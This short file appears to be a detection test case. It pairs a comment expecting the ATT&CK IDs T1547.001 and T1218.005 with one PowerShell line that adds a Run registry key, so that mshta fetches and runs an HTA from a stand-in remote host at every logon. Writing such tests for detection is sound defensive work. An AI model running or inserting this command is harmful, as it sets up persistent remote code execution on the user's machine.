# expect: T1547.001 T1218.005
New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value "mshta http://198.51.100.1/a.hta"
